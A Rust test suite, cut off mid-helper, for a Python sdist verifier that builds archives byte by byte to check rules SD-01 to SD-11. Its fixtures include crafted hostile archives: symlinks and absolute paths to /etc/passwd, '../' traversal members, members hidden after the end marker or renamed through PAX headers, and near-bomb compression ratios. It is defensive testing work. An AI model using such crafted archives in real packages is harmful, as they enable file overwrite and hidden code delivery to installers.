//! Tests: sdist verification (SD-01..SD-11) on archives written byte by byte, including every
//! odd-numbered case of `verify-rules.md` §4.6 (T91..T109).

use pyship_tests::tarwriter::{self, FILENAME, Gzip, Header, ROOT, Tar, baseline_tar, gzip};
use pyship_verify::{Finding, Severity, Target, VerifyOptions, verify_bytes};

fn options() -> VerifyOptions<'static> {
    VerifyOptions {
        target: Target::Pypi,
        md5: false,
        renderer: None,
        reporter: None,
        source_date_epoch: None,
    }
}

fn findings(bytes: &[u8]) -> Vec<Finding> {
    verify_bytes(FILENAME, bytes, &options()).0.findings
}

fn with_severity(bytes: &[u8], severity: Severity) -> Vec<Finding> {
    findings(bytes)
        .into_iter()
        .filter(|f| f.severity == severity)
        .collect()
}

/// Asserts an error with `id` was found and returns it.
#[track_caller]
fn assert_error(bytes: &[u8], id: &str) -> Finding {
    let errors = with_severity(bytes, Severity::Error);
    errors
        .iter()
        .find(|f| f.id.as_str() == id)
        .cloned()
        .unwrap_or_else(|| panic!("expected an error {id}, got {errors:#?}"))
}

/// Asserts a warning with `id` was found and no error with it.
#[track_caller]
fn assert_warning(bytes: &[u8], id: &str) -> Finding {
    let all = findings(bytes);
    assert!(
        !all.iter()
            .any(|f| f.id.as_str() == id && f.severity == Severity::Error),
        "expected no error {id}, got {all:#?}"
    );
    all.iter()
        .find(|f| f.id.as_str() == id && f.severity == Severity::Warning)
        .cloned()
        .unwrap_or_else(|| panic!("expected a warning {id}, got {all:#?}"))
}

#[track_caller]
fn assert_clean(bytes: &[u8]) {
    let all = findings(bytes);
    let blocking: Vec<_> = all
        .iter()
        .filter(|f| f.severity >= Severity::Warning)
        .collect();
    assert!(
        blocking.is_empty(),
        "expected no findings, got {blocking:#?}"
    );
}

/// An unsafe path is reported by the PATH rules, or by SD-05 when they say nothing.
#[track_caller]
fn assert_unsafe_path_error(bytes: &[u8]) {
    let all = findings(bytes);
    assert!(
        all.iter().any(|f| f.severity == Severity::Error
            && (f.id.as_str() == "SD-05" || f.id.group() == "PATH")),
        "expected an SD-05 or PATH error, got {all:#?}"
    );
}

fn finished(tar: &Tar) -> Vec<u8> {
    gzip(&tar.finish())
}

fn root(path: &str) -> String {
    format!("{ROOT}/{path}")
}

// Valid controls.

#[test]
fn ok_baseline_sdist_is_clean() {
    let bytes = tarwriter::baseline_sdist();
    assert_clean(&bytes);
    let (report, contents) = verify_bytes(FILENAME, &bytes, &options());
    assert_eq!(report.name.as_deref(), Some("foo"));
    assert_eq!(report.version.as_deref(), Some("1.0"));
    let mut paths: Vec<_> = contents.files.iter().map(|(p, _)| p.as_str()).collect();
    paths.sort_unstable();
    assert_eq!(
        paths,
        [
            "LICENSE",
            "PKG-INFO",
            "README.md",
            "pyproject.toml",
            "src/foo/__init__.py"
        ]
    );
}

#[test]
fn ok_sdist_file_digests_are_sha256_of_content() {
    let (_, contents) = verify_bytes(FILENAME, &tarwriter::baseline_sdist(), &options());
    let (_, digest) = contents
        .files
        .iter()
        .find(|(p, _)| p == "README.md")
        .expect("README.md is listed");
    // sha256 of "# foo\n\nA small test package.\n", computed with `sha256sum`.
    let expected = pyship_verify::digest::hex(digest);
    let data = b"# foo\n\nA small test package.\n";
    let mut cursor = std::io::Cursor::new(&data[..]);
    let direct = pyship_verify::digest::digest_reader(&mut cursor, false).expect("memory read");
    assert_eq!(expected, direct.sha256);
}

#[test]
fn ok_pax_sdist_with_200_character_utf8_path() {
    let long = format!("{}/{}.txt", "d\u{e9}".repeat(50), "\u{fc}".repeat(95));
    assert_eq!(long.chars().count(), 200);
    let mut tar = baseline_tar();
    tar.pax_file(&root(&long), b"long\n");
    let bytes = finished(&tar);
    assert_clean(&bytes);
    let (_, contents) = verify_bytes(FILENAME, &bytes, &options());
    assert!(contents.files.iter().any(|(p, _)| *p == long));
}

#[test]
fn ok_directories_pax_mtime_and_prefix_field() {
    let mut tar = Tar::new();
    tar.dir(ROOT);
    tar.pax(&[("mtime", "1700000000.25")]);
    tar.dir(&root("src"));
    for (path, data) in tarwriter::baseline_files() {
        tar.file(&root(path), &data);
    }
    // A ustar name split over the prefix and name fields.
    let mut header = Header::file("module.py", 3);
    header.prefix = root("src/foo").into_bytes();
    tar.entry(&header, b"x=1");
    let bytes = finished(&tar);
    assert_clean(&bytes);
    let (_, contents) = verify_bytes(FILENAME, &bytes, &options());
    assert!(contents.files.iter().any(|(p, _)| p == "src/foo/module.py"));
}

#[test]
fn ok_gzip_with_fname_fextra_fcomment_and_valid_fhcrc() {
    let gz = Gzip {
        fname: Some(b"foo-1.0.tar".to_vec()),
        fcomment: Some(b"built for a test".to_vec()),
        fextra: Some(vec![b'A', b'B', 2, 0, 1, 2]),
        fhcrc: true,
        ..Gzip::default()
    };
    assert_clean(&gz.write(&baseline_tar().finish()));
}

#[test]
fn ok_gzip_mtime_equal_to_newest_member_is_not_flagged() {
    let gz = Gzip {
        mtime: 1_700_000_000,
        ..Gzip::default()
    };
    assert_clean(&gz.write(&baseline_tar().finish()));
}

// §4.6 cases T91..T109.

#[test]
fn err_t91_symlink_to_etc_passwd_sd02() {
    let mut tar = baseline_tar();
    tar.entry(&Header::special(&root("link"), b'2', "/etc/passwd"), &[]);
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(finding.message.contains("symbolic link"), "{finding:?}");
    assert_eq!(finding.member.as_deref(), Some("foo-1.0/link"));
}

#[test]
fn err_t93_character_device_and_fifo_sd02() {
    for (typeflag, what) in [(b'3', "character device"), (b'6', "FIFO")] {
        let mut tar = baseline_tar();
        tar.entry(&Header::special(&root("dev"), typeflag, ""), &[]);
        let finding = assert_error(&finished(&tar), "SD-02");
        assert!(finding.message.contains(what), "{finding:?}");
    }
}

#[test]
fn err_t95_gnu_longname_sd02() {
    let long = root(&"a".repeat(150));
    let mut tar = baseline_tar();
    let mut data = long.clone().into_bytes();
    data.push(0);
    let mut header = Header::file("././@LongLink", data.len() as u64);
    header.typeflag = b'L';
    tar.entry(&header, &data);
    tar.file(&long[..99], b"payload");
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(finding.message.contains("GNU long name"), "{finding:?}");
}

#[test]
fn err_t97_pax_global_header_with_path_sd02() {
    let mut tar = Tar::new();
    tar.pax_typed(b'g', &[("path", &root("evil.py"))]);
    for (path, data) in tarwriter::baseline_files() {
        tar.file(&root(path), &data);
    }
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(finding.message.contains("PAX global header"), "{finding:?}");
}

#[test]
fn err_t99_zero_blocks_in_the_middle_hide_a_member_sd04() {
    let mut tar = baseline_tar();
    tar.zero_blocks(2);
    tar.file(&root("hidden.py"), b"print('hidden')\n");
    let finding = assert_error(&finished(&tar), "SD-04");
    assert!(
        finding.message.contains("follows the end-of-archive"),
        "{finding:?}"
    );
}

#[test]
fn err_t101_two_top_level_directories_sd07() {
    let mut tar = baseline_tar();
    tar.file("bar-1.0/x.py", b"");
    let finding = assert_error(&finished(&tar), "SD-07");
    assert!(finding.message.contains("`bar-1.0`"), "{finding:?}");
}

/// The baseline's members under `top` instead of `foo-1.0`, gzipped.
fn baseline_under(top: &str) -> Vec<u8> {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        tar.file(&format!("{top}/{path}"), &data);
    }
    finished(&tar)
}

/// The ids of the errors found in `bytes` verified as `filename`, and the metadata's name.
fn errors_named(filename: &str, bytes: &[u8]) -> (Vec<String>, Option<String>) {
    let report = verify_bytes(filename, bytes, &options()).0;
    let errors = report
        .findings
        .iter()
        .filter(|f| f.severity == Severity::Error)
        .map(|f| format!("{} {:?}: {}", f.id, f.member, f.message))
        .collect();
    (errors, report.name)
}

#[test]
fn err_t101_top_directory_case_differs_from_filename_is_one_sd07() {
    let (errors, name) = errors_named(FILENAME, &baseline_under("Foo-1.0"));
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert!(
        errors[0].starts_with("SD-07")
            && errors[0].contains("top-level directory is `Foo-1.0`; expected `foo-1.0`"),
        "{errors:#?}"
    );
    // PKG-INFO was found and checked under the archive's actual root: no SD-08 cascade.
    assert_eq!(name.as_deref(), Some("foo"));
}

#[test]
fn err_non_normalized_filename_is_one_fn06_whatever_the_top_directory() {
    // The top directory has the PEP 625 name the file lacks, or the file's own name: either way
    // the file name is the one problem, and PKG-INFO is read under the actual top directory.
    for top in ["foo-1.0", "Foo-1.0"] {
        let (errors, name) = errors_named("Foo-1.0.tar.gz", &baseline_under(top));
        assert_eq!(errors.len(), 1, "{top}: {errors:#?}");
        assert!(
            errors[0].starts_with("FN-06") && errors[0].contains("expected `foo-1.0.tar.gz`"),
            "{top}: {errors:#?}"
        );
        assert_eq!(name.as_deref(), Some("foo"), "{top}");
    }
}

#[test]
fn err_top_directory_unrelated_to_filename_is_one_sd07_and_contents_still_checked() {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        tar.file(&format!("bar-2.0/{path}"), &data);
    }
    tar.file("bar-2.0/.git/config", b"[core]\n");
    let (errors, name) = errors_named(FILENAME, &finished(&tar));
    assert_eq!(name.as_deref(), Some("foo"));
    let ids: Vec<&str> = errors.iter().map(|e| &e[..5]).collect();
    assert_eq!(ids, ["SD-11", "SD-07"], "{errors:#?}");
    assert!(errors[0].contains("`bar-2.0/.git`"), "{errors:#?}");
}

#[test]
fn err_t103_no_pyproject_toml_sd08() {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        if path != "pyproject.toml" {
            tar.file(&root(path), &data);
        }
    }
    let finding = assert_error(&finished(&tar), "SD-08");
    assert_eq!(finding.member.as_deref(), Some("foo-1.0/pyproject.toml"));
}

#[test]
fn err_t105_setuid_mode_fails_sd06() {
    let mut tar = baseline_tar();
    tar.file_mode(&root("run.sh"), b"#!/bin/sh\n", 0o4755);
    let finding = assert_error(&finished(&tar), "SD-06");
    assert_eq!(finding.member.as_deref(), Some("foo-1.0/run.sh"));
}

#[test]
fn warn_t105_world_writable_mode_sd06() {
    let mut tar = baseline_tar();
    tar.file_mode(&root("data.txt"), b"x", 0o666);
    let finding = assert_warning(&finished(&tar), "SD-06");
    assert!(finding.message.contains("0666"), "{finding:?}");
}

#[test]
fn err_t107_uncompressed_tar_named_tar_gz_sd01() {
    let finding = assert_error(&baseline_tar().finish(), "SD-01");
    assert!(finding.message.contains("uncompressed tar"), "{finding:?}");
}

#[test]
fn err_t107_bzip2_named_tar_gz_sd01() {
    let mut bytes = b"BZh91AY&SY".to_vec();
    bytes.extend_from_slice(&[0u8; 64]);
    let finding = assert_error(&bytes, "SD-01");
    assert!(finding.message.contains("bzip2"), "{finding:?}");
}

#[test]
fn err_t109_virtualenv_with_python_symlink_sd02_sd11() {
    let mut tar = baseline_tar();
    tar.file(&root(".venv/pyvenv.cfg"), b"home = /usr/bin\n");
    tar.entry(
        &Header::special(&root(".venv/bin/python"), b'2', "/usr/bin/python3"),
        &[],
    );
    let bytes = finished(&tar);
    assert_error(&bytes, "SD-02");
    let finding = assert_error(&bytes, "SD-11");
    assert_eq!(finding.member.as_deref(), Some("foo-1.0/.venv"));
}

// SD-01: gzip.

#[test]
fn err_gzip_second_member_sd01() {
    let mut bytes = tarwriter::baseline_sdist();
    bytes.extend_from_slice(&gzip(b"more"));
    let finding = assert_error(&bytes, "SD-01");
    assert!(
        finding.message.contains("second gzip member"),
        "{finding:?}"
    );
}

#[test]
fn err_gzip_trailing_bytes_sd01() {
    let mut bytes = tarwriter::baseline_sdist();
    bytes.extend_from_slice(b"\0\0\0\0");
    let finding = assert_error(&bytes, "SD-01");
    assert!(
        finding.message.contains("follow the gzip member"),
        "{finding:?}"
    );
}

#[test]
fn err_gzip_bad_crc32_sd01() {
    let gz = Gzip {
        crc_xor: 1,
        ..Gzip::default()
    };
    let finding = assert_error(&gz.write(&baseline_tar().finish()), "SD-01");
    assert!(finding.message.contains("CRC32"), "{finding:?}");
}

#[test]
fn err_gzip_bad_isize_sd01() {
    let gz = Gzip {
        isize_delta: 512,
        ..Gzip::default()
    };
    let finding = assert_error(&gz.write(&baseline_tar().finish()), "SD-01");
    assert!(finding.message.contains("ISIZE"), "{finding:?}");
}

#[test]
fn err_gzip_reserved_flag_bits_sd01() {
    let gz = Gzip {
        extra_flags: 0x20,
        ..Gzip::default()
    };
    assert_error(&gz.write(&baseline_tar().finish()), "SD-01");
}

#[test]
fn err_gzip_compression_method_not_deflate_sd01() {
    let gz = Gzip {
        cm: 7,
        ..Gzip::default()
    };
    assert_error(&gz.write(&baseline_tar().finish()), "SD-01");
}

#[test]
fn err_gzip_bad_header_crc16_sd01() {
    let gz = Gzip {
        fhcrc: true,
        fhcrc_xor: 0x0100,
        ..Gzip::default()
    };
    let finding = assert_error(&gz.write(&baseline_tar().finish()), "SD-01");
    assert!(finding.message.contains("CRC16"), "{finding:?}");
}

#[test]
fn err_gzip_fextra_subfield_overruns_xlen_sd01() {
    let gz = Gzip {
        fextra: Some(vec![b'A', b'B', 9, 0, 1, 2]),
        ..Gzip::default()
    };
    assert_error(&gz.write(&baseline_tar().finish()), "SD-01");
}

#[test]
fn err_gzip_truncated_sd01() {
    for truncate in [4, 8, 40] {
        let gz = Gzip {
            truncate,
            ..Gzip::default()
        };
        let finding = assert_error(&gz.write(&baseline_tar().finish()), "SD-01");
        assert!(
            finding.message.contains("truncated"),
            "{truncate}: {finding:?}"
        );
    }
}

#[test]
fn err_gzip_corrupt_deflate_stream_sd01() {
    let mut bytes = tarwriter::baseline_sdist();
    // BTYPE 11 is reserved: set both type bits of the first block header.
    bytes[10] |= 0b110;
    assert_error(&bytes, "SD-01");
}

#[test]
fn warn_gzip_mtime_later_than_every_member_sd01() {
    let gz = Gzip {
        mtime: 1_800_000_000,
        ..Gzip::default()
    };
    let finding = assert_warning(&gz.write(&baseline_tar().finish()), "SD-01");
    assert!(finding.message.contains("MTIME"), "{finding:?}");
}

/// The errors (and warnings) about `bytes` in reproducible mode with `epoch`.
fn with_epoch(bytes: &[u8], epoch: u64) -> Vec<Finding> {
    let options = VerifyOptions {
        source_date_epoch: Some(epoch),
        ..options()
    };
    verify_bytes(FILENAME, bytes, &options)
        .0
        .findings
        .into_iter()
        .filter(|f| f.severity >= Severity::Warning)
        .collect()
}

#[test]
fn ok_repro_mode_gzip_mtime_zero_or_epoch_and_members_not_newer() {
    // The baseline's members are all at 1 700 000 000.
    for (mtime, epoch) in [
        (0, 1_700_000_000),
        (1_700_000_000, 1_700_000_000),
        (0, 1_800_000_000),
    ] {
        let gz = Gzip {
            mtime,
            ..Gzip::default()
        };
        let found = with_epoch(&gz.write(&baseline_tar().finish()), epoch);
        assert!(found.is_empty(), "MTIME {mtime}, epoch {epoch}: {found:#?}");
    }
}

#[test]
fn err_repro_mode_gzip_mtime_other_than_epoch_sd01() {
    let gz = Gzip {
        mtime: 1_600_000_000,
        ..Gzip::default()
    };
    let found = with_epoch(&gz.write(&baseline_tar().finish()), 1_700_000_000);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(
        (found[0].id.as_str(), found[0].severity),
        ("SD-01", Severity::Error)
    );
    assert!(
        found[0]
            .message
            .contains("gzip MTIME is 1600000000; expected 0 or SOURCE_DATE_EPOCH 1700000000"),
        "{found:#?}"
    );
}

#[test]
fn err_repro_mode_members_newer_than_epoch_sd06() {
    let found = with_epoch(&tarwriter::baseline_sdist(), 1_690_000_000);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(
        (found[0].id.as_str(), found[0].severity),
        ("SD-06", Severity::Error)
    );
    assert!(
        found[0]
            .message
            .starts_with("5 members are newer than SOURCE_DATE_EPOCH 1690000000")
            && found[0].message.contains("mtime 1700000000"),
        "{found:#?}"
    );
}

#[test]
fn err_empty_file_sd01() {
    let finding = assert_error(&[], "SD-01");
    assert!(finding.message.contains("empty"), "{finding:?}");
}

// SD-02/SD-03: tar headers and PAX.

/// The only finding about `bytes`, which must be an error with `id` whose message starts with
/// `start`, is ASCII and contains no control character.
#[track_caller]
fn only_error(bytes: &[u8], id: &str, start: &str) -> Finding {
    let all = findings(bytes);
    assert!(
        all.len() == 1 && all[0].id.as_str() == id && all[0].severity == Severity::Error,
        "expected exactly one {id} error, got {all:#?}"
    );
    let finding = all[0].clone();
    assert!(finding.message.starts_with(start), "{finding:?}");
    assert!(
        finding.message.is_ascii() && !finding.message.chars().any(|c| c.is_ascii_control()),
        "{finding:?}"
    );
    finding
}

#[test]
fn err_gzip_of_text_that_is_not_tar_sd02() {
    let text = "not a tar archive\n".repeat(100);
    let finding = only_error(&gzip(text.as_bytes()), "SD-02", "not a tar archive: ");
    assert!(
        finding.message.contains("bad header checksum at offset 0")
            && finding.message.contains("`not a tar archiv`..."),
        "{finding:?}"
    );
}

#[test]
fn err_gzip_of_binary_junk_is_not_tar_with_escaped_bounded_bytes_sd02() {
    // Control bytes, an ANSI escape and a backtick: none may reach a terminal as they are.
    let mut junk = b"\x1b[31m`\x00\x07\xff".to_vec();
    junk.extend((0..4000u32).map(|i| (i * 7 % 251) as u8));
    let finding = only_error(&gzip(&junk), "SD-02", "not a tar archive: ");
    assert!(
        finding.message.contains("bad header checksum at offset 0")
            && finding.message.contains(r"`\x1b[31m\x60\x00\x07\xff"),
        "{finding:?}"
    );
    assert!(finding.message.len() < 400, "{finding:?}");
}

#[test]
fn err_gzip_of_nothing_or_of_a_few_bytes_is_not_tar_sd02() {
    let finding = only_error(&gzip(b""), "SD-02", "not a tar archive: ");
    assert!(finding.message.contains("no data"), "{finding:?}");
    let finding = only_error(&gzip(b"hello\n"), "SD-02", "not a tar archive: ");
    assert!(
        finding
            .message
            .contains(r"only 6 bytes, starting with `hello\n`"),
        "{finding:?}"
    );
}

#[test]
fn err_text_file_named_tar_gz_is_not_gzip_sd01() {
    let finding = only_error(b"just some text\n", "SD-01", "not a gzip stream: ");
    assert!(
        finding.message.contains(r"starts with `just some text\n`")
            && finding.message.contains("expected the gzip magic"),
        "{finding:?}"
    );
}

#[test]
fn err_gzip_truncated_in_its_header_says_where_sd01() {
    let finding = only_error(&[0x1f, 0x8b, 8, 0, 0], "SD-01", "gzip header is truncated");
    assert!(finding.message.contains("after 5 bytes"), "{finding:?}");
}

#[test]
fn err_tar_bad_checksum_after_the_first_header_names_its_offset_sd02() {
    let mut tar = baseline_tar();
    let offset = tar.unfinished().len();
    let mut header = Header::file(&root("x.py"), 1);
    header.checksum_delta = 1;
    tar.entry(&header, b"x");
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(
        finding.message.starts_with(&format!(
            "tar header at offset {offset}: bad tar header checksum"
        )),
        "{finding:?}"
    );
}

#[test]
fn err_tar_bad_header_checksum_sd02() {
    let mut tar = baseline_tar();
    let mut header = Header::file(&root("x.py"), 1);
    header.checksum_delta = 1;
    tar.entry(&header, b"x");
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(finding.message.contains("checksum"), "{finding:?}");
}

#[test]
fn err_tar_gnu_magic_sd02() {
    let mut tar = baseline_tar();
    let mut header = Header::file(&root("x.py"), 1);
    header.magic = *b"ustar  \0";
    tar.entry(&header, b"x");
    let mut second = Header::file(&root("y.py"), 1);
    second.magic = *b"ustar  \0";
    tar.entry(&second, b"y");
    let bytes = finished(&tar);
    let finding = assert_error(&bytes, "SD-02");
    assert!(finding.message.contains("magic"), "{finding:?}");
    let count = findings(&bytes)
        .iter()
        .filter(|f| f.message.contains("magic"))
        .count();
    assert_eq!(count, 1, "one magic finding per archive");
}

#[test]
fn err_tar_non_octal_size_field_sd02() {
    let mut tar = baseline_tar();
    let mut block = Header::file(&root("x.py"), 1).to_block();
    block[124..136].copy_from_slice(b"0000000001x\0");
    // Recompute the checksum so only the size field is wrong.
    block[148..156].fill(b' ');
    let sum: u32 = block.iter().map(|&b| u32::from(b)).sum();
    block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    tar.raw(&block).raw(&[b'x'; 512]);
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(finding.message.contains("`size`"), "{finding:?}");
}

#[test]
fn err_tar_hardlink_sd02() {
    let mut tar = baseline_tar();
    tar.entry(&Header::special(&root("copy"), b'1', &root("LICENSE")), &[]);
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(finding.message.contains("hard link"), "{finding:?}");
}

#[test]
fn err_tar_directory_carrying_data_sd02() {
    let mut tar = baseline_tar();
    let inner = {
        let mut inner = Tar::new();
        inner.file(&root("embedded.py"), b"print('hidden')\n");
        inner.unfinished()
    };
    let mut header = Header::dir(&root("pkg"));
    header.size = inner.len() as u64;
    tar.entry(&header, &inner);
    let finding = assert_error(&finished(&tar), "SD-02");
    assert!(
        finding.message.contains("directory member carries"),
        "{finding:?}"
    );
}

#[test]
fn err_tar_file_with_link_name_sd02() {
    let mut tar = baseline_tar();
    let mut header = Header::file(&root("x.py"), 0);
    header.linkname = b"elsewhere".to_vec();
    tar.entry(&header, &[]);
    assert_error(&finished(&tar), "SD-02");
}

#[test]
fn err_pax_size_override_sd03() {
    let mut tar = baseline_tar();
    tar.pax(&[("size", "0")]);
    tar.file(&root("x.py"), b"print('x')\n");
    let finding = assert_error(&finished(&tar), "SD-03");
    assert!(finding.message.contains("`size`"), "{finding:?}");
}

#[test]
fn err_pax_linkpath_hdrcharset_gnu_and_schily_keys_sd03() {
    for key in [
        "linkpath",
        "hdrcharset",
        "GNU.sparse.size",
        "SCHILY.xattr.user.x",
    ] {
        let mut tar = baseline_tar();
        tar.pax(&[(key, "1")]);
        tar.file(&root("x.py"), b"x");
        let finding = assert_error(&finished(&tar), "SD-03");
        assert!(finding.message.contains(key), "{key}: {finding:?}");
    }
}

#[test]
fn err_pax_duplicate_path_key_sd03() {
    let mut tar = baseline_tar();
    tar.pax(&[("path", &root("a.py")), ("path", &root("b.py"))]);
    tar.file(&root("c.py"), b"x");
    let finding = assert_error(&finished(&tar), "SD-03");
    assert!(finding.message.contains("appears twice"), "{finding:?}");
}

#[test]
fn err_pax_two_headers_in_a_row_sd03() {
    let mut tar = baseline_tar();
    tar.pax(&[("path", &root("a.py"))]);
    tar.pax(&[("path", &root("b.py"))]);
    tar.file(&root("c.py"), b"x");
    let finding = assert_error(&finished(&tar), "SD-03");
    assert!(finding.message.contains("in a row"), "{finding:?}");
}

#[test]
fn err_pax_record_length_wrong_sd03() {
    let mut tar = baseline_tar();
    tar.pax_raw(b'x', b"99 path=foo-1.0/a.py\n");
    tar.file(&root("c.py"), b"x");
    let finding = assert_error(&finished(&tar), "SD-03");
    assert!(finding.message.contains("not framed"), "{finding:?}");
}

#[test]
fn err_pax_header_at_end_of_archive_sd03() {
    let mut tar = baseline_tar();
    tar.pax(&[("path", &root("a.py"))]);
    assert_error(&finished(&tar), "SD-03");
}

#[test]
fn err_pax_non_utf8_value_sd03() {
    let mut tar = baseline_tar();
    let mut record = b"22 path=foo-1.0/\xff\xfe.py\n".to_vec();
    assert_eq!(record.len(), 22);
    tar.pax_raw(b'x', &record);
    tar.file(&root("c.py"), b"x");
    record.clear();
    assert_error(&finished(&tar), "SD-03");
}

#[test]
fn err_pax_path_renames_a_member_ustar_could_name_sd03() {
    let mut tar = baseline_tar();
    tar.pax(&[("path", &root("evil.py"))]);
    tar.file(&root("benign.py"), b"x");
    let finding = assert_error(&finished(&tar), "SD-03");
    assert!(
        finding.message.contains("`foo-1.0/benign.py`"),
        "{finding:?}"
    );
}

#[test]
fn err_pax_long_path_under_another_top_directory_than_ustar_sd03() {
    let long = root(&format!("{}.py", "a".repeat(150)));
    let mut tar = baseline_tar();
    tar.pax(&[("path", &long)]);
    tar.file("elsewhere/short.py", b"x");
    let finding = assert_error(&finished(&tar), "SD-03");
    assert!(
        finding.message.contains("top-level directory"),
        "{finding:?}"
    );
}

#[test]
fn ok_pax_path_as_python_tarfile_writes_it() {
    // Python puts the path truncated to 100 bytes (non-ASCII as `?`) in the ustar name.
    let long = root(&format!("{}.py", "a".repeat(150)));
    let mut tar = baseline_tar();
    tar.pax(&[("path", &long)]);
    tar.file(&long[..100], b"x");
    tar.pax(&[("path", &root("d\u{e9}.txt"))]);
    tar.file(&root("d?.txt"), b"y");
    assert_clean(&finished(&tar));
}

// SD-04: end of archive.

#[test]
fn err_tar_without_end_marker_sd04() {
    let bytes = gzip(&baseline_tar().unfinished());
    let finding = assert_error(&bytes, "SD-04");
    assert!(finding.message.contains("end-of-archive"), "{finding:?}");
}

#[test]
fn err_tar_single_zero_block_at_end_sd04() {
    let mut tar = baseline_tar();
    tar.zero_blocks(1);
    let bytes = gzip(&tar.unfinished());
    let finding = assert_error(&bytes, "SD-04");
    assert!(finding.message.contains("one zero block"), "{finding:?}");
}

#[test]
fn err_tar_garbage_after_end_marker_sd04() {
    let mut tar_bytes = baseline_tar().finish();
    let at = tar_bytes.len() - 100;
    tar_bytes[at] = b'!';
    assert_error(&gzip(&tar_bytes), "SD-04");
}

#[test]
fn err_tar_partial_final_block_sd04() {
    let mut tar_bytes = baseline_tar().finish();
    tar_bytes.extend_from_slice(&[0u8; 100]);
    let finding = assert_error(&gzip(&tar_bytes), "SD-04");
    assert!(finding.message.contains("partial block"), "{finding:?}");
}

// SD-05..SD-11: layout.

#[test]
fn err_duplicate_member_name_sd05() {
    let mut tar = baseline_tar();
    tar.file(&root("README.md"), b"a different readme\n");
    let finding = assert_error(&finished(&tar), "SD-05");
    assert_eq!(finding.member.as_deref(), Some("foo-1.0/README.md"));
}

#[test]
fn err_member_below_a_regular_file_sd05() {
    let mut tar = baseline_tar();
    tar.file(&root("LICENSE/inner.txt"), b"x");
    let finding = assert_error(&finished(&tar), "SD-05");
    assert!(finding.message.contains("regular file"), "{finding:?}");
}

#[test]
fn err_absolute_member_path() {
    let mut tar = baseline_tar();
    tar.file("/etc/passwd", b"root:x:0:0\n");
    let bytes = finished(&tar);
    // The member is outside the root whatever PATH-02 says about it.
    assert_error(&bytes, "SD-07");
    assert_unsafe_path_error(&bytes);
}

#[test]
fn err_dotdot_member_path() {
    let mut tar = baseline_tar();
    tar.file(&root("../escape.py"), b"x");
    assert_unsafe_path_error(&finished(&tar));
}

#[test]
fn err_regular_file_at_top_level_sd07() {
    let mut tar = baseline_tar();
    tar.file("setup.py", b"");
    let finding = assert_error(&finished(&tar), "SD-07");
    assert_eq!(finding.member.as_deref(), Some("setup.py"));
}

#[test]
fn err_pkg_info_missing_sd08() {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        if path != "PKG-INFO" {
            tar.file(&root(path), &data);
        }
    }
    let finding = assert_error(&finished(&tar), "SD-08");
    assert_eq!(finding.member.as_deref(), Some("foo-1.0/PKG-INFO"));
}

#[test]
fn err_pkg_info_is_a_directory_sd08() {
    let mut tar = Tar::new();
    tar.dir(&root("PKG-INFO"));
    for (path, data) in tarwriter::baseline_files() {
        if path != "PKG-INFO" {
            tar.file(&root(path), &data);
        }
    }
    let finding = assert_error(&finished(&tar), "SD-08");
    assert!(
        finding.message.contains("not a regular file"),
        "{finding:?}"
    );
}

#[test]
fn warn_pkg_info_metadata_version_2_1_meta02() {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        let data = if path == "PKG-INFO" {
            tarwriter::pkg_info("2.1")
                .replace("License-Expression: MIT\nLicense-File: LICENSE\n", "")
                .into_bytes()
        } else {
            data
        };
        tar.file(&root(path), &data);
    }
    // The spec's MUST for sdists is META-02's to judge; PKG-INFO itself is present (no SD-08).
    let bytes = finished(&tar);
    let finding = assert_warning(&bytes, "META-02");
    assert!(finding.message.contains("2.2"), "{finding:?}");
    assert!(!findings(&bytes).iter().any(|f| f.id.as_str() == "SD-08"));
}

#[test]
fn warn_legacy_sdist_without_pyproject_sd08() {
    let mut tar = Tar::new();
    let old =
        tarwriter::pkg_info("1.2").replace("License-Expression: MIT\nLicense-File: LICENSE\n", "");
    tar.file(&root("PKG-INFO"), old.as_bytes());
    tar.file(
        &root("setup.py"),
        b"from setuptools import setup\nsetup()\n",
    );
    let finding = assert_warning(&finished(&tar), "SD-08");
    assert!(finding.message.contains("legacy sdist"), "{finding:?}");
}

#[test]
fn err_pyproject_not_toml_and_without_build_system_sd08() {
    for (text, expect) in [
        ("[build-system\nrequires = 1\n", "not valid TOML"),
        ("[project]\nname = \"foo\"\n", "[build-system]"),
    ] {
        let mut tar = Tar::new();
        for (path, data) in tarwriter::baseline_files() {
            let data = if path == "pyproject.toml" {
                text.as_bytes().to_vec()
            } else {
                data
            };
            tar.file(&root(path), &data);
        }
        let finding = assert_error(&finished(&tar), "SD-08");
        assert!(finding.message.contains(expect), "{finding:?}");
    }
}

#[test]
fn err_license_file_missing_from_sdist_root_meta16() {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        if path != "LICENSE" {
            tar.file(&root(path), &data);
        }
    }
    // A license elsewhere does not count: SD-09 wants it at `{root}/<path>`.
    tar.file(&root("sub/LICENSE"), b"MIT\n");
    let finding = assert_error(&finished(&tar), "META-16");
    assert!(finding.message.contains("LICENSE"), "{finding:?}");
}

/// SD-10 on the inflation ratio of the whole stream: 4 MiB of zeros inflate at about 880:1 from
/// this writer, far above 100 but under the error threshold of 1000: a warning.
#[test]
fn warn_compression_ratio_near_1000_sd10() {
    let mut tar = baseline_tar();
    tar.file(&root("zeros.bin"), &vec![0u8; 4 * 1024 * 1024]);
    let finding = assert_warning(&finished(&tar), "SD-10");
    assert!(
        finding.message.contains("(ratio 8") && finding.message.contains("expected at most 100"),
        "{finding:?}"
    );
}

/// Bits written least significant first, as deflate packs them.
#[derive(Default)]
struct BitWriter {
    out: Vec<u8>,
    bit: u32,
}

impl BitWriter {
    /// `count` bits of `value`, low bit first (header fields, extra bits).
    fn bits(&mut self, value: u32, count: u32) {
        for i in 0..count {
            if self.bit == 0 {
                self.out.push(0);
